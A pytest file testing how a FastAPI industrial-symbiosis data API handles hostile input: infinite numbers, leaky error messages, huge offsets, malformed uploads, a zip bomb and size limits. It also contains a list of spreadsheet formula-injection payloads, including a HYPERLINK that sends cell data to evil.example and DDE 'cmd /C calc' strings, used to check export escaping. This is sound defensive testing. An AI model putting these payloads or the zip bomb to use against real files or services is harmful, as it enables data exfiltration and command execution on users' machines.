"""Hostile input over HTTP (issue 14, items 1, 2 and 5): every number finite and within its
physical bound, errors in shared computations that show nobody else's data, and 4xx — never 500 —
for huge offsets, bad uploads (encoding, size, zip bombs, duplicates) and awkward exports."""

from __future__ import annotations

import csv
import io
import json
import math
import zipfile
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from api.helpers import COMPANY_SITE, TERRITORY, numbers
from symbiosis.api import create_app
from symbiosis.api.deps import MAX_OFFSET
from symbiosis.services.context import ServiceContext
from symbiosis.settings import Settings

pytestmark = pytest.mark.graph  # a real embedded graph store behind the API


@pytest.fixture
def post_json(app_client: TestClient, headers):  # noqa: ANN201
    """POST a JSON text as written (so `Infinity` and `NaN` reach the server as Python parses them)."""

    def call(role: str, path: str, body: dict[str, Any], method: str = "POST"):  # noqa: ANN202
        text = json.dumps(body)  # allow_nan: Infinity / NaN literals, as a hostile client sends them
        json_headers = {**headers[role], "Content-Type": "application/json"}
        return app_client.request(method, path, content=text, headers=json_headers)

    return call


# --- item 1: finite and bounded, at the edge ---------------------------------------------------


@pytest.mark.parametrize("literal", [float("inf"), float("-inf"), float("nan"), 1e308])
def test_non_finite_or_absurd_quantity_is_a_422_naming_the_field(post_json, literal: float) -> None:
    body = {"site_id": COMPANY_SITE, "resource_code": "yeast_slurry", "quantity": literal,
            "quantity_unit": "t/day", "confidentiality": "private"}  # fmt: skip
    r = post_json("company", "/outputs", body)
    assert r.status_code == 422, r.text
    (issue,) = r.json()["errors"]
    assert issue["field"] == "body.quantity"
    assert issue["value"] == (literal if math.isfinite(literal) else str(literal))


def test_infinite_query_and_run_parameters_are_422(as_role, post_json) -> None:
    r = as_role("admin", "GET", f"/matches?territory_id={TERRITORY}&min_gain_eur_per_yr=inf")
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "query.min_gain_eur_per_yr"
    r = post_json("admin", "/runs", {"territory_id": TERRITORY, "carbon_price_eur_per_t": float("inf")})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "body.carbon_price_eur_per_t"
    r = post_json("admin", "/sites/asnaes", {"latitude_deg": float("nan")}, method="PATCH")
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "body.latitude_deg"
    r = post_json("admin", "/outputs/o_asnaes_fly_ash", {"quantity": float("inf")}, method="PATCH")
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "body.quantity"


def test_what_is_accepted_at_the_bounds_never_breaks_matching(ctx: ServiceContext, as_role) -> None:
    """The largest accepted figures (1e9 t/yr, ±1e6 €/t) keep matching and aggregates finite for
    the territory and every ancestor, for every role that reads them."""
    body = {
        "site_id": COMPANY_SITE, "resource_code": "yeast_slurry", "quantity": 1e9, "quantity_unit": "t/yr",
        "disposal_cost_eur_per_unit": 1e6, "disposal_co2_kg_per_unit": 1e5, "confidentiality": "private",
    }  # fmt: skip
    r = as_role("company", "POST", "/outputs", json=body)
    assert r.status_code == 201, r.text
    try:
        for tid in ctx.tree().ancestors(TERRITORY):
            for role in ("admin", "company"):
                m = as_role(role, "GET", f"/matches?territory_id={tid}&limit=1000")
                assert m.status_code == 200, (tid, role, m.text)
                assert all(math.isfinite(v) for v in numbers(m.json()))
            a = as_role("analyst", "GET", f"/aggregates/{tid}")
            assert a.status_code == 200, a.text
            assert all(math.isfinite(v) for v in numbers(a.json()))
    finally:
        assert as_role("company", "DELETE", f"/outputs/{r.json()['id']}").status_code == 204


# --- item 2: someone else's bad data never shows in my error -----------------------------------

BROKEN = "o_asnaes_fly_ash"  # Asnæs's declaration, not the company account's firm


@pytest.fixture
def broken_private_row(ctx: ServiceContext):  # noqa: ANN201
    """A private declaration whose stored figure is absurd — as a row written around validation
    (by hand, or before the bounds existed) would be — then restored."""
    repo = ctx.repo()
    (old,) = repo.run("MATCH (o:Output {id: $id}) RETURN properties(o) AS props", id=BROKEN)
    repo.run(
        "MATCH (o:Output {id: $id}) SET o.quantity = 1.5e308, o.quantity_per_yr = 1.5e308, "
        "o.confidentiality = 'private'",
        id=BROKEN,
    )
    ctx.cache.invalidate_all()
    yield
    repo.run("MATCH (o:Output {id: $id}) SET o = $props", id=BROKEN, props=dict(old["props"]))
    ctx.cache.invalidate_all()


@pytest.mark.parametrize(
    ("role", "path"),
    [
        ("company", f"/matches?territory_id={TERRITORY}"),
        ("agency", f"/matches?territory_id={TERRITORY}"),
        ("analyst", f"/aggregates/{TERRITORY}"),
    ],
)
def test_shared_computation_errors_show_nobody_elses_data(
    broken_private_row, as_role, role: str, path: str
) -> None:
    r = as_role(role, "GET", path)
    assert r.status_code == 500
    assert BROKEN not in r.text and "308" not in r.text and "fly_ash" not in r.text
    assert r.json() == {
        "detail": f"the matching of territory {TERRITORY!r} cannot be computed from the data stored at "
        "the moment; an administrator can see why in the server log",
        "errors": [],
    }


def test_admin_sees_which_stored_row_breaks_matching(broken_private_row, as_role) -> None:
    r = as_role("admin", "GET", f"/matches?territory_id={TERRITORY}")
    assert r.status_code == 422
    (issue,) = r.json()["errors"]
    assert (issue["location"], issue["field"], issue["value"]) == (
        "a stored OutputDeclaration",
        "quantity",
        1.5e308,
    )


def test_matching_works_again_once_the_row_is_fixed(as_role) -> None:
    assert as_role("company", "GET", f"/matches?territory_id={TERRITORY}").status_code == 200


# --- item 5: 4xx, not 500 ----------------------------------------------------------------------

PAGED = ["/firms", "/sites", "/outputs", "/inputs", "/territories", f"/matches?territory_id={TERRITORY}"]


@pytest.mark.parametrize("path", PAGED)
def test_offsets_beyond_the_bound_are_422_and_the_bound_itself_works(as_role, path: str) -> None:
    sep = "&" if "?" in path else "?"
    for offset in (2**31, 2**63, MAX_OFFSET + 1):
        r = as_role("admin", "GET", f"{path}{sep}offset={offset}")
        assert r.status_code == 422, (offset, r.text)
        assert r.json()["errors"][0]["field"] == "query.offset"
    r = as_role("admin", "GET", f"{path}{sep}offset={MAX_OFFSET}")
    assert r.status_code == 200 and r.json()["data"] == []


def test_xlsx_export_of_a_name_with_control_characters(as_role) -> None:
    from openpyxl import load_workbook

    firm = {"id": "ctrl_char_firm", "name": "Bad\x01Name\x1f Ltd", "nace_code": "23.51"}
    assert as_role("admin", "POST", "/firms", json=firm).status_code == 201
    try:
        r = as_role("admin", "GET", "/exports?format=xlsx")
        assert r.status_code == 200, r.text
        sheet = load_workbook(io.BytesIO(r.content))["firms"]
        names = {row[0]: row[1] for row in sheet.iter_rows(min_row=2, values_only=True)}
        assert names["ctrl_char_firm"] == "Bad\ufffdName\ufffd Ltd"
    finally:
        assert as_role("admin", "DELETE", "/firms/ctrl_char_firm").status_code == 204


def _upload(as_role, name: str, content: bytes, role: str = "admin"):  # noqa: ANN202
    return as_role(role, "POST", "/imports", files=[("files", (name, content, "application/octet-stream"))])


def _zip(entries: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in entries:
            zf.writestr(name, data)
    return buf.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("firms.csv", "id,name\nlat1,Béton de Fécamp\n".encode("latin-1"), ("firms.csv", "UTF-8")),
        ("firms.csv", bytes(range(256)) * 16, ("firms.csv", "binary")),
        ("firms.csv", b"id,name\nlong1," + b"x" * 200_000 + b"\n", ("firms.csv row 2", "10,000 characters")),
        ("data.xlsx", b"this is not a workbook", ("data.xlsx", "Excel workbook")),
        ("data.xlsx", b"id,name\nf1,A\n", ("data.xlsx", "Excel workbook")),
        ("data.zip", b"PK\x03\x04 broken", ("data.zip", "a valid .zip")),
        ("bad\x00name.xlsx", b"not a workbook", ("upload.xlsx", "Excel workbook")),
        ("n" * 300 + ".xlsx", b"not a workbook", ("upload.xlsx", "Excel workbook")),
    ],
)
def test_bad_uploads_are_422_naming_the_file(
    as_role, name: str, content: bytes, words: tuple[str, ...]
) -> None:
    before = as_role("admin", "GET", "/firms?limit=1").json()["count"]
    r = _upload(as_role, name, content)
    assert r.status_code == 422, r.text
    assert all(w in r.text for w in words), r.text
    assert len(r.text) < 5_000  # the payload is not echoed back
    assert as_role("admin", "GET", "/firms?limit=1").json()["count"] == before


def test_zip_bomb_is_refused_before_unpacking(as_role) -> None:
    bomb = _zip([("firms.csv", b"id,name\n" + b"0" * (64 * 2**20))])
    assert len(bomb) < 2**20  # under 1 MB on the wire, 64 MiB unpacked
    r = _upload(as_role, "bomb.zip", bomb)
    assert r.status_code == 422 and "zip bomb" in r.text


def test_same_table_twice_in_a_zip_or_an_upload_is_refused(as_role) -> None:
    firms_a, firms_b = b"id,name\ntwice_a,A\n", b"id,name\ntwice_b,B\n"
    r = _upload(as_role, "two.zip", _zip([("a/firms.csv", firms_a), ("b/firms.csv", firms_b)]))
    assert r.status_code == 422 and "appears twice" in r.text and "firms.csv" in r.text
    files = [("files", ("firms.csv", firms_a, "text/csv")), ("files", ("firms.csv", firms_b, "text/csv"))]
    r = as_role("admin", "POST", "/imports", files=files)
    assert r.status_code == 422 and "appears twice" in r.text
    assert as_role("admin", "GET", "/firms/twice_a").status_code == 404


def test_upload_and_body_size_limits(ctx: ServiceContext, api_settings: Settings, headers) -> None:
    small = api_settings.model_copy(update={"max_upload_mb": 1, "max_body_kb": 4})
    with TestClient(create_app(small, ctx), raise_server_exceptions=False) as client:
        admin = headers["admin"]
        big = b"id,name\n" + b"f,x\n" * (2 * 2**20 // 4 + 1)  # just over 1 MiB + 1 MiB of multipart slack
        r = client.post("/imports", headers=admin, files=[("files", ("firms.csv", big, "text/csv"))])
        assert r.status_code == 413 and "too large" in r.json()["detail"]
        r = client.post("/firms", headers={**admin, "Content-Type": "application/json"},
                        content=json.dumps({"name": "x" * 5000}))  # fmt: skip
        assert r.status_code == 413
        # a body without Content-Length (streamed) is cut too
        r = client.post("/firms", headers={**admin, "Content-Type": "application/json"},
                        content=iter([b'{"name": "', b"y" * 5000, b'"}']))  # fmt: skip
        assert r.status_code == 413
        # exactly at the body limit: through to validation; one byte more: 413
        for size, status in ((4 * 1024, 422), (4 * 1024 + 1, 413)):
            body = json.dumps({"name": "z", "nace_code": "nope"}).encode()
            body = body[:-1] + b" " * (size - len(body)) + b"}"
            assert len(body) == size
            r = client.post("/firms", headers={**admin, "Content-Type": "application/json"}, content=body)
            assert r.status_code == status, (size, r.text)


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)", "'=already quoted"]  # fmt: skip


def test_exports_never_hold_a_formula_and_keep_negative_numbers(as_role) -> None:
    """A firm named like a formula is exported as text ('-prefixed in CSV, a string cell in xlsx) and
    imported back unchanged; a site west of Greenwich keeps a negative longitude as a number."""
    from openpyxl import load_workbook

    firms = [{"id": f"formula_{i}", "name": name} for i, name in enumerate([*FORMULAS, "Plain - name"])]
    site = {"id": "formula_site", "firm_id": "formula_0", "name": "-Brest", "latitude_deg": 48.39,
            "longitude_deg": -4.49, "territory_id": None}  # fmt: skip
    for firm in firms:
        assert as_role("admin", "POST", "/firms", json=firm).status_code == 201
    assert as_role("admin", "POST", "/sites", json=site).status_code == 201, "site"
    try:
        r = as_role("admin", "GET", "/exports?format=csv")
        assert r.status_code == 200
        with zipfile.ZipFile(io.BytesIO(r.content)) as zf:
            tables = {Path(n).stem: zf.read(n).decode() for n in zf.namelist()}
        names = {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(tables["firms"]))}
        assert [names[f"formula_{i}"] for i in range(len(FORMULAS))] == ["'" + f for f in FORMULAS]
        assert names[f"formula_{len(FORMULAS)}"] == "Plain - name"  # a dash inside is no formula
        sites = {row["id"]: row for row in csv.DictReader(io.StringIO(tables["sites"]))}
        assert sites["formula_site"]["longitude_deg"] == "-4.49"  # a number, not "'-4.49"
        assert sites["formula_site"]["name"] == "'-Brest"

        book = load_workbook(io.BytesIO(as_role("admin", "GET", "/exports?format=xlsx").content))
        cells = {row[0].value: row[1] for row in book["firms"].iter_rows(min_row=2)}
        assert [
            (cells[f"formula_{i}"].value, cells[f"formula_{i}"].data_type) for i in range(len(FORMULAS))
        ] == [(f, "s") for f in FORMULAS]
        lon = next(
            row for row in book["sites"].iter_rows(min_row=2, values_only=True) if row[0] == "formula_site"
        )
        assert -4.49 in lon

        again = as_role(
            "admin", "POST", "/imports", files=[("files", ("export.zip", r.content, "application/zip"))]
        )
        assert again.status_code == 200, again.text
        back = {f["id"]: f["name"] for f in as_role("admin", "GET", "/firms?limit=1000").json()["data"]}
        assert [back[f"formula_{i}"] for i in range(len(FORMULAS))] == FORMULAS  # the quote undone
    finally:
        assert as_role("admin", "DELETE", "/sites/formula_site").status_code == 204
        for firm in firms:
            assert as_role("admin", "DELETE", f"/firms/{firm['id']}").status_code == 204
